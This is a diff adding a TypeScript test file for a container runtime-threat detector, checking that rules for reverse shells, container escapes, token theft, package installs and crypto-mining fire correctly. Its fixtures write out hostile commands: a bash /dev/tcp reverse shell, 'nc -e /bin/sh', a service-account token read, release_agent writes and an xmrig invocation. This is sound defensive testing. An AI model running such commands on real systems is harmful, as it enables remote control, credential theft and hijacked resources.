@@ -1,0 +1,51 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { knownBadAudits, RULES, type RuleContext } from '../../src/detect/index.ts';
+import type { RuntimeEvent } from '../../src/model/index.ts';
+
+const base = { time: '2026-01-01T00:00:00Z', source: 'tenet' as const, container: { id: 'c1', name: 'web' } };
+const exec = (path: string, argv: string[], parent?: string): RuntimeEvent => ({ kind: 'exec', ...base, process: { pid: 9, path, argv, ...(parent !== undefined && { parent: { name: parent } }) } });
+const context = (c: Partial<RuleContext> = {}): RuleContext => ({ ancestors: [], knownProcess: false, ...c });
+let n = 0;
+const fired = (event: RuntimeEvent, c: Partial<RuleContext> = {}) => knownBadAudits(event, context(c), () => ({ id: String(n++) })).map((a) => a.rule);
+
+test('each known-bad rule fires on what it looks for, and not on the ordinary', () => {
+  assert.deepEqual(fired(exec('/bin/sh', ['sh', '-c', 'id'], 'nginx'), { ancestors: ['nginx'] }), ['shell-from-server']);
+  assert.deepEqual(fired(exec('/bin/sh', ['sh', '-c', 'id']), { ancestors: ['containerd-shim'] }), [], 'docker exec: the model rule says it');
+  assert.deepEqual(fired(exec('/bin/sh', ['sh', '/entrypoint.sh']), { ancestors: ['node'], knownProcess: true }), [], 'a shell the model allows');
+
+  assert.deepEqual(fired(exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], 'bash'), { ancestors: ['bash'] }), ['reverse-shell']);
+  assert.deepEqual(fired(exec('/usr/bin/nc', ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'])), ['reverse-shell']);
+  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/usr/bin/bash' }, network: { protocol: 'tcp', remoteAddress: '203.0.113.7', remotePort: 4444 } }), ['reverse-shell']);
+  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/usr/bin/bash' }, network: { protocol: 'tcp', remoteAddress: '10.0.0.2', remotePort: 80 } }, { knownProcess: true }), [],
+    'a shell that is the container\'s own program: its model judges its peers');
+  assert.deepEqual(fired(exec('/usr/bin/nc', ['nc', '-z', 'db', '5432'])), [], 'nc without a program on the socket');
+
+  assert.deepEqual(fired(exec('/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nmap'])), ['package-manager-or-compiler']);
+  assert.deepEqual(fired(exec('/usr/bin/gcc', ['gcc', 'x.c'])), ['package-manager-or-compiler']);
+  assert.deepEqual(fired(exec('/usr/local/bin/npm', ['npm', 'start'])), [], 'npm running the app');
+  assert.deepEqual(fired(exec('/usr/local/bin/npm', ['npm', 'install', 'evil'])), ['package-manager-or-compiler']);
+
+  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/proc/sys/kernel/core_pattern' } }), ['container-escape']);
+  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/sys/fs/cgroup/memory/release_agent' } }), ['container-escape']);
+  assert.deepEqual(fired({ kind: 'syscall', ...base, process: { pid: 9 }, syscall: 'mount' }), ['container-escape']);
+  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/tmp/x' } }), []);
+
+  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9, path: '/usr/bin/curl' }, file: { path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }), ['runtime-socket-or-token']);
+  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9, path: '/app/server' }, file: { path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }, { knownProcess: true }), []);
+
+  assert.deepEqual(fired(exec('/tmp/xmrig', ['/tmp/xmrig', '-o', 'stratum+tcp://pool.example:3333'])), ['crypto-miner']);
+  assert.deepEqual(fired({ kind: 'dns', ...base, process: { pid: 9 }, dns: { names: ['xmr.pool.minexmr.com'] } }), ['crypto-miner']);
+  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/tmp/a' }, network: { protocol: 'tcp', remoteAddress: '198.51.100.9', remotePort: 14444 } }), ['crypto-miner']);
+  assert.deepEqual(fired({ kind: 'dns', ...base, process: { pid: 9 }, dns: { names: ['api.github.com'] } }), []);
+});
+
+test('every rule has an id, an ATT&CK technique, the event kinds it reads and a description', () => {
+  const ids = RULES.map((r) => r.id);
+  assert.equal(new Set(ids).size, ids.length);
+  for (const rule of RULES) {
+    assert.match(rule.technique.id, /^T\d{4}(\.\d{3})?$/, rule.id);
+    assert.ok(rule.kinds.length > 0 && rule.description.length > 40, rule.id);
+    assert.equal(rule.detect === undefined, rule.needsModel || rule.id === 'drift' || rule.id.startsWith('threat-intel'), rule.id);
+  }
+});
